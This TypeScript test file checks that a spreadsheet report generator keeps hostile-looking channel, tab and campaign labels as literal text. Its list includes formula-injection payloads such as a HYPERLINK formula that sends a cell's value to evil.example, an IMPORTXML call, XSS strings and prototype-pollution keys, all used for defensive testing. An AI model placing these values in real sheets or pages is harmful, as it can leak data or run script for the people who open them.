/**
 * Labels that look like formulas, numbers, dates or HTML (design §6.1, §8): as channel values, as tab
 * names (an ads tab without a channel column takes its tab's name) and as e-mail campaigns. Each must
 * reach the report as the same literal text, and never inside a formula (the harness checks every
 * formula of the report against a whitelist, and the local Sheets model refuses risky text writes).
 */
import { tab, type RobustnessCase } from '../corpusCase';

const HOSTILE_LABELS: readonly { readonly label: string; readonly covers: string }[] = [
  { label: '=IMPORTXML("http://x","//a")', covers: 'hostile:importxml' },
  { label: '=HYPERLINK("http://evil.example/?q="&A1,"click")', covers: 'hostile:hyperlink' },
  { label: '+81', covers: 'hostile:plus' },
  { label: '+81-3-1234-5678', covers: 'hostile:plus' },
  { label: '-foo', covers: 'hostile:minus' },
  { label: '−1', covers: 'hostile:minus' },
  { label: '@x', covers: 'hostile:at' },
  { label: '＝1+1', covers: 'hostile:full-width-equals' },
  { label: '＋81', covers: 'hostile:full-width-equals' },
  { label: '＠SUM(A1)', covers: 'hostile:at' },
  { label: '<img src=x onerror=alert(1)>', covers: 'hostile:html' },
  { label: '<script>alert("x")</script>', covers: 'hostile:html' },
  { label: "'quoted", covers: 'hostile:apostrophe' },
  { label: '1,234', covers: 'hostile:number-like' },
  { label: '2025-04', covers: 'hostile:date-like' },
  { label: 'TRUE', covers: 'hostile:boolean-like' },
  { label: '#REF!', covers: 'hostile:error-like' },
  { label: '__proto__', covers: 'hostile:object-key' },
  { label: 'constructor', covers: 'hostile:object-key' },
];

/** The label as the channel of an ad row and of two leads: one channel, literal on チャネル別. */
function channelCase(label: string, covers: string): RobustnessCase {
  return {
    name: `channel ${JSON.stringify(label)} stays literal text`,
    covers: [covers, 'hostile:channel'],
    input: {
      tabs: [
        tab('広告', [['日付', '媒体', '費用'], ['2025-04-01', label, 1000]]),
        tab('リード', [['作成日', '流入元'], ['2025-04-01', label], ['2025-04-02', label]]),
      ],
    },
    expect: {
      totals: { leads: 2, cost: 1000 },
      byChannel: [{ channel: label, leads: 2, cost: 1000 }],
      warnings: [],
      literals: [{ text: label, sheet: 'チャネル別' }],
    },
  };
}

/** The label as the name of an ads tab without a channel column: the tab's name is the channel. */
function tabNameCase(label: string, covers: string): RobustnessCase {
  return {
    name: `tab named ${JSON.stringify(label)} stays literal text as a channel and a source`,
    covers: [covers, 'hostile:tab-name'],
    input: {
      tabs: [
        tab(label, [['日付', '費用'], ['2025-04-01', 1000]]),
        tab('リード', [['作成日', '流入元'], ['2025-04-01', label]]),
      ],
    },
    expect: {
      totals: { leads: 1, cost: 1000 },
      byChannel: [{ channel: label, leads: 1, cost: 1000 }],
      warnings: [],
      literals: [
        { text: label, sheet: 'チャネル別' },
        { text: label, sheet: 'ファネル概要' },
      ],
    },
  };
}

const TAB_NAME_LABELS = HOSTILE_LABELS.filter(({ label }) =>
  ['=IMPORTXML("http://x","//a")', '+81', '-foo', '@x', '＝1+1', '<img src=x onerror=alert(1)>', "'quoted", '2025-04'].includes(label),
);

export const hostileTextCases: readonly RobustnessCase[] = [
  ...HOSTILE_LABELS.map(({ label, covers }) => channelCase(label, covers)),
  ...TAB_NAME_LABELS.map(({ label, covers }) => tabNameCase(label, covers)),
  {
    name: 'a channel with a leading tab and line break is trimmed, and the rest stays literal',
    covers: ['hostile:control-characters'],
    input: {
      tabs: [
        tab('広告', [['日付', '媒体', '費用'], ['2025-04-01', '\t=1+1\n', 1000]]),
        tab('リード', [['作成日', '流入元'], ['2025-04-01', '\t=1+1\n']]),
      ],
    },
    expect: {
      totals: { leads: 1, cost: 1000 },
      byChannel: [{ channel: '=1+1', leads: 1, cost: 1000 }],
      warnings: [],
      literals: [{ text: '=1+1', sheet: 'チャネル別' }],
    },
  },
  {
    name: 'e-mail campaigns that look like formulas stay literal on the e-mail sheet',
    covers: ['hostile:campaign'],
    input: {
      tabs: [
        // E-mail rows count within the period, which the leads span (04-01 to 04-08).
        tab('リード', [['作成日', '流入元'], ['2025-04-01', 'メール'], ['2025-04-08', 'メール']]),
        tab('メール', [
          ['配信日', 'メール名', '配信数', '開封数', 'クリック数'],
          ['2025-04-01', '=HYPERLINK("http://evil.example","x")', 1000, 300, 50],
          ['2025-04-08', '-4月号', 500, 100, 10],
        ]),
      ],
    },
    expect: {
      totals: { leads: 2 },
      warnings: [],
      literals: [
        { text: '=HYPERLINK("http://evil.example","x")', sheet: 'メール分析' },
        { text: '-4月号', sheet: 'メール分析' },
      ],
      check: (summary) => {
        expect(summary.email).toEqual(
          expect.arrayContaining([
            // 300 ÷ 1,000 opened, 50 ÷ 1,000 clicked, 50 ÷ 300 of openers clicked.
            expect.objectContaining({ campaign: '=HYPERLINK("http://evil.example","x")', delivered: 1000, opens: 300, clicks: 50, openRate: 0.3, clickRate: 0.05 }),
          ]),
        );
      },
    },
  },
  {
    name: 'hostile labels in an English report stay literal on "By channel"',
    covers: ['hostile:channel'],
    language: 'en',
    input: {
      tabs: [
        tab('Ads', [['Date', 'Channel', 'Cost'], ['2025-04-01', '@SUM(1)', 100], ['2025-04-01', '-2+3', 200]]),
        tab('Leads', [['Create Date', 'Lead Source'], ['2025-04-01', '@SUM(1)'], ['2025-04-01', '-2+3']]),
      ],
    },
    expect: {
      totals: { leads: 2, cost: 300 },
      warnings: [],
      literals: [
        { text: '@SUM(1)', sheet: 'By channel' },
        { text: '-2+3', sheet: 'By channel' },
      ],
    },
  },
  {
    name: 'header cells that look like formulas are simply not recognised',
    covers: ['hostile:header'],
    input: { tabs: [tab('広告', [['日付', '=1+1', '費用', '<b>x</b>'], ['2025-04-01', 'a', 1000, 'b']])] },
    expect: { totals: { cost: 1000 }, warnings: [] },
  },
];
